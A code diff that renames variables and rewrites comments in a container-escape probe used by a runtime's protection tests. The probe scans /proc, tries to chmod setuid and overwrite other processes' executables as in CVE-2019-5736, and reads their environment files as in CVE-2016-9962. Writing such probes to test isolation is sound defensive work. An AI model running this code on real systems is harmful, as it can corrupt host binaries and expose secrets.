@@ -1,15 +1,16 @@
 // SPDX-License-Identifier: MIT
-// attack: looks, until there is a file /tmp/stop, for processes of other programs than
-// this one and busybox, and tries to write to their programs, as CVE-2019-5736 did, and
-// to look into them, as CVE-2016-9962. Linked statically; protection_test.cpp starts it
-// in containers, and what it may hit is a copy of the runtime's program.
+// attack: until the file /tmp/stop exists, looks for processes that run neither this
+// program nor busybox. Tries to write to their executables, as in CVE-2019-5736, and to
+// read their environment, as in CVE-2016-9962. It is linked statically;
+// protection_test.cpp starts it in containers, where it can reach only a copy of the
+// runtime's program.
 //
-// It says: refused=N (programs that couldn't even be opened), reached=N (that could be),
-// full=N (those in which there was anything), mapped=N (processes that had a file named
-// zoomin in their memory), won=N (written to), looked=N (environments read), and the
-// answers to a change of its mode and to a write. For all processes: mighty=N (had a
-// capability that this one hasn't), elsewhere=N (had another root directory), more=N (of
-// another program, with descriptors beyond its first four).
+// At the end it prints counts of executables: refused=N (couldn't be opened), reached=N
+// (could be opened), nonempty=N, written=N; the results change=… of a chmod(2) and
+// write=… of a write(2) to the last one; and counts of processes: mapped=N (had a file
+// named zoomin in their memory), environments=N (their environment could be read),
+// privileged=N (had a capability that this process lacks), other_root=N (had another root
+// directory), descriptors=N (ran another program and had descriptors above 3).
 #include <dirent.h>
 #include <fcntl.h>
 #include <string.h>
@@ -26,18 +27,18 @@
 
 namespace {
 
-struct tally {
+struct counts {
   int refused = 0;
   int reached = 0;
-  int full = 0;
+  int nonempty = 0;
   int mapped = 0;
-  int won = 0;
-  int looked = 0;
-  int mighty = 0;
-  int elsewhere = 0;
-  int more = 0;
+  int written = 0;
+  int environments = 0;
+  int privileged = 0;
+  int other_root = 0;
+  int descriptors = 0;
   std::string change = "none", write = "none";
-} seen;
+} totals;
 
 bool same_file(const struct stat& info, const char* path) {
   struct stat other {};
@@ -45,9 +46,9 @@ bool same_file(const struct stat& info, const char* path) {
          info.st_ino == other.st_ino;
 }
 
-std::string answer(long result) {
+std::string result_of(long result) {
   if (result == -1) return zoomin::error_name(errno);
-  ++seen.won;
+  ++totals.written;
   return "ok";
 }
 
@@ -64,13 +65,13 @@ long write_a_byte(const std::string& path) {
 void write_to(int program) {
   const std::string path = "/proc/self/fd/" + std::to_string(program);
   if (::chmod(path.c_str(), 04777) == 0)
-    seen.change = "ok";
+    totals.change = "ok";
   else
-    seen.change = zoomin::error_name(errno);
-  seen.write = answer(write_a_byte(path));
+    totals.change = zoomin::error_name(errno);
+  totals.write = result_of(write_a_byte(path));
 }
 
-// In a neighbour it is another file, of the size that ours has.
+// Compares sizes, since the busybox of a container next to this one is another file.
 bool is_busybox(const struct stat& info) {
   struct stat ours {};
   return ::stat("/bin/busybox", &ours) == 0 && info.st_size == ours.st_size;
@@ -83,16 +84,17 @@ bool maps_program(const std::string& process) {
   return false;
 }
 
-void look_into(const std::string& process) {
+void read_environment(const std::string& process) {
   const int environment = ::open((process + "/environ").c_str(), O_RDONLY | O_CLOEXEC);
   if (environment < 0) return;
   char character = 0;
   const bool got = ::read(environment, &character, 1) > 0;
   ::close(environment);
-  // Not where it became the command meanwhile, whose environment is the container's.
+  // Doesn't count a process that has meanwhile become the command, whose environment is
+  // the container's.
   const int program = ::open((process + "/exe").c_str(), O_PATH | O_CLOEXEC);
   if (program >= 0) ::close(program);
-  if (got && program < 0 && errno != ENOENT && errno != ESRCH) ++seen.looked;
+  if (got && program < 0 && errno != ENOENT && errno != ESRCH) ++totals.environments;
 }
 
 unsigned long long capabilities_of(const std::string& process) {
@@ -114,37 +116,37 @@ int descriptors_of(const std::string& process) {
 
 void compare(const std::string& process) {
   static const auto ours = capabilities_of("/proc/self");
-  if ((capabilities_of(process) & ~ours) != 0) ++seen.mighty;
+  if ((capabilities_of(process) & ~ours) != 0) ++totals.privileged;
   struct stat root {};
   if (::stat((process + "/root").c_str(), &root) == 0 && !same_file(root, "/"))
-    ++seen.elsewhere;
+    ++totals.other_root;
 }
 
-void try_one(const std::string& process) {
+void attack_process(const std::string& process) {
   compare(process);
   const int program = ::open((process + "/exe").c_str(), O_PATH | O_CLOEXEC);
   if (program < 0) {
-    if (errno != EACCES && errno != EPERM) return;  // it has ended
-    ++seen.refused;
-    return look_into(process);
+    if (errno != EACCES && errno != EPERM) return;  // the process has ended
+    ++totals.refused;
+    return read_environment(process);
   }
   struct stat info {};
   ::fstat(program, &info);
   if (!same_file(info, "/proc/self/exe") && !is_busybox(info)) {
-    ++seen.reached;
-    if (info.st_size > 0) ++seen.full;
-    if (maps_program(process)) ++seen.mapped;
-    if (descriptors_of(process) > 0) ++seen.more;
+    ++totals.reached;
+    if (info.st_size > 0) ++totals.nonempty;
+    if (maps_program(process)) ++totals.mapped;
+    if (descriptors_of(process) > 0) ++totals.descriptors;
     write_to(program);
   }
   ::close(program);
 }
 
-void try_all() {
+void attack_all() {
   DIR* processes = ::opendir("/proc");
   while (const dirent* found = ::readdir(processes))
     if (found->d_name[0] >= '1' && found->d_name[0] <= '9')
-      try_one(std::string("/proc/") + found->d_name);
+      attack_process(std::string("/proc/") + found->d_name);
   ::closedir(processes);
 }
 
@@ -153,12 +155,13 @@ void try_all() {
 int main() {
   std::printf("ready\n");
   std::fflush(stdout);
-  while (::access("/tmp/stop", F_OK) != 0) try_all();
+  while (::access("/tmp/stop", F_OK) != 0) attack_all();
   std::printf(
-      "refused=%d\nreached=%d\nfull=%d\nmapped=%d\nwon=%d\nlooked=%d\nchange=%s\n"
-      "write=%s\n"
-      "mighty=%d\nelsewhere=%d\nmore=%d\n",
-      seen.refused, seen.reached, seen.full, seen.mapped, seen.won, seen.looked,
-      seen.change.c_str(), seen.write.c_str(), seen.mighty, seen.elsewhere, seen.more);
+      "refused=%d\nreached=%d\nnonempty=%d\nmapped=%d\nwritten=%d\n"
+      "environments=%d\nchange=%s\nwrite=%s\n"
+      "privileged=%d\nother_root=%d\ndescriptors=%d\n",
+      totals.refused, totals.reached, totals.nonempty, totals.mapped, totals.written,
+      totals.environments, totals.change.c_str(), totals.write.c_str(), totals.privileged,
+      totals.other_root, totals.descriptors);
   return 0;
 }
